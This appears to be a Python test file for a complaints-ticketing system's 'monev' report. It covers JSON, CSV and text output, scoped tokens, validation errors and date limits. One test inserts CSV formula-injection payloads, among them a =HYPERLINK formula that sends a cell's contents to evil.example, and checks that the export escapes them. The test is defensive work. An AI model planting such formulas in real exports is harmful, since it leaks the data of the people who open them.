"""The monev report over HTTP (JSON, CSV, text; scoped tokens) and from `sop report monev`."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from engine.app.service import TicketService
from engine.cli import main
from engine.core.clock import ManualClock
from engine.store import Store
from tests.api.conftest import TOKENS, make_app, sender
from tests.api.journey import Journey
from tests.integration.reports.dataset import build
from tests.support.seed import MONDAY, ROUTING

JAN = "sop=surabaya-complaints&from=2025-01-01&to=2025-02-01"


@pytest.fixture(scope="module")
def app(tmp_path_factory: pytest.TempPathFactory):
    app = make_app(tmp_path_factory.mktemp("reports"))
    rt = app.extensions["sop"]
    build(rt.service, rt.manual_clock)
    yield app
    rt.close()


def get(app, path: str, token: str = "root", **headers: str):
    headers.setdefault("Authorization", f"Bearer {TOKENS[token][0]}")
    return app.test_client().get(path, headers=headers)


def test_json_has_the_whole_sop_and_each_agency(app):
    resp = get(app, f"/v1/reports/monev?{JAN}")
    assert resp.status_code == 200
    body = resp.get_json()
    assert (body["from"], body["to"], body["time_zone"]) == (
        "2025-01-01",
        "2025-02-01",
        "Asia/Jakarta",
    )
    assert body["total"]["tickets_received"] == 5 and body["scope_field"] == "agency"
    assert [s["scope"] for s in body["scopes"]] == ["DPRKPP", "DSDABM", None]
    follow = next(s for s in body["total"]["steps"] if s["id"] == "follow_up")
    assert (follow["median"], follow["share_met"], follow["reentered"]) == (1.0, 1.0, 1)
    assert body["total"]["steps"][0]["activity"] == "Menerima inquiry dari masyarakat"  # no tags


def test_csv_by_accept_header_or_format(app):
    for resp in (
        get(app, f"/v1/reports/monev?{JAN}", Accept="text/csv"),
        get(app, f"/v1/reports/monev?{JAN}&format=csv"),
    ):
        assert resp.status_code == 200 and resp.mimetype == "text/csv"
        assert "attachment" in resp.headers["Content-Disposition"]
        rows = list(csv.reader(io.StringIO(resp.get_data(as_text=True))))
        assert rows[0] == ["scope", "section", "step_no", "step", "measure", "value", "unit"]
        assert ["", "tickets", "", "", "received", "5", ""] in rows
        assert ["DSDABM", "step", "8", "await_agency_response", "median", "30.0", "hours"] in rows
        assert ["", "escalations", "", "", "first-response-escalation", "1", ""] in rows
    text = get(app, f"/v1/reports/monev?{JAN}&format=text")
    assert text.mimetype == "text/plain" and "tickets received 5, closed 2" in text.get_data(True)


def test_the_scope_field_by_name_and_scoped_tokens(app):
    by_name = get(app, f"/v1/reports/monev?{JAN}&agency=DPRKPP").get_json()
    assert by_name["total"]["scope"] == "DPRKPP" and by_name["scopes"] == []
    own = get(app, f"/v1/reports/monev?{JAN}", token="dsdabm").get_json()
    assert own["total"]["scope"] == "DSDABM" and own["total"]["tickets_received"] == 3
    other = get(app, f"/v1/reports/monev?{JAN}&scope=DPRKPP", token="dsdabm")
    assert other.status_code == 403 and other.get_json()["code"] == "forbidden"
    assert get(app, f"/v1/reports/monev?{JAN}", token="audit").status_code == 200


@pytest.mark.parametrize(
    ("query", "status", "says"),
    [
        ("sop=surabaya-complaints&from=2025-01-01", 422, "both `from` and `to`"),
        ("sop=surabaya-complaints&from=2025-13-01&to=2025-02-01", 422, "from"),
        ("sop=surabaya-complaints&from=2025-02-01&to=2025-01-01", 422, "must end after"),
        ("sop=surabaya-complaints&unit=X", 422, "scope field of surabaya-complaints is 'agency'"),
        ("sop=nope", 404, "nope"),
        ("from=2025-01-01&to=2025-02-01", 422, "sop"),
    ],
)
def test_bad_queries_say_what_to_fix(app, query, status, says):
    resp = get(app, f"/v1/reports/monev?{query}")
    assert resp.status_code == status
    assert says in json.dumps(resp.get_json())


def test_no_token_no_report(app):
    resp = app.test_client().get(f"/v1/reports/monev?{JAN}")
    assert resp.status_code == 401


def test_sop_report_monev_prints_text_json_and_csv(tmp_path: Path, catalog):
    store = Store.open(f"sqlite:///{tmp_path / 'sop.db'}")
    clock = ManualClock(MONDAY)
    build(TicketService(catalog, store, clock), clock)
    store.close()
    args = ["report", "monev", "--data-dir", str(tmp_path), "--from", "2025-01-01"]
    runner = CliRunner()
    text = runner.invoke(main, [*args, "--to", "2025-02-01"])
    assert text.exit_code == 0, text.output
    assert "tickets received 5, closed 2" in text.output and "agency DSDABM" in text.output
    as_json = runner.invoke(main, [*args, "--to", "2025-02-01", "--format", "json"])
    assert json.loads(as_json.output)["total"]["tickets_closed"] == 2
    one = runner.invoke(main, [*args, "--to", "2025-02-01", "--scope", "DPRKPP", "--format", "csv"])
    assert "DPRKPP,tickets,,,received,1," in one.output
    bad = runner.invoke(main, [*args])
    assert bad.exit_code != 0 and "give both --from and --to" in bad.output
    worse = runner.invoke(main, [*args, "--to", "2025-02-30"])
    assert worse.exit_code != 0 and "is not a date" in worse.output


def test_csv_cells_a_spreadsheet_would_run_are_written_as_text(tmp_path: Path):
    """An agency value typed as a formula (`=HYPERLINK(...)`) opens in a spreadsheet as the text
    it is, never as a link that sends the sheet's cells elsewhere."""
    app = make_app(tmp_path)
    client = app.test_client()
    desk = Journey(sender(client, "root"))
    formulas = ['=HYPERLINK("http://evil.example/?d="&A2,"Klik")', "+1+1", "-2+3", "@SUM(A1)"]
    for agency in formulas:
        made = desk.create()["id"]
        for event in ("accept", "triage"):
            desk.post(made, event, "staff")
        desk.post(made, "entered", "staff", {**ROUTING, "agency": agency})
    resp = get(app, f"/v1/reports/monev?{JAN}&format=csv")
    rows = list(csv.reader(io.StringIO(resp.get_data(as_text=True))))
    scopes = {row[0] for row in rows[1:]} - {""}
    assert scopes == {"'" + f for f in formulas}
    assert ["", "tickets", "", "", "received", "4", ""] in rows  # figures stay numbers
    app.extensions["sop"].close()


def test_a_period_in_the_year_one_is_refused_not_a_crash(app):
    """0001-01-01 at midnight in Surabaya is the year 0 in UTC, which no store can hold."""
    for fmt in ("json", "csv", "text"):
        resp = get(
            app,
            f"/v1/reports/monev?sop=surabaya-complaints&from=0001-01-01&to=0001-02-01&format={fmt}",
        )
        assert resp.status_code == 422 and resp.mimetype == "application/problem+json"
        assert resp.get_json()["errors"] == {"from": ["outside the years 0001-9999 in UTC"]}
    last = get(app, "/v1/reports/monev?sop=surabaya-complaints&from=9999-12-01&to=9999-12-31")
    assert last.status_code == 200 and last.get_json()["total"]["tickets_received"] == 0
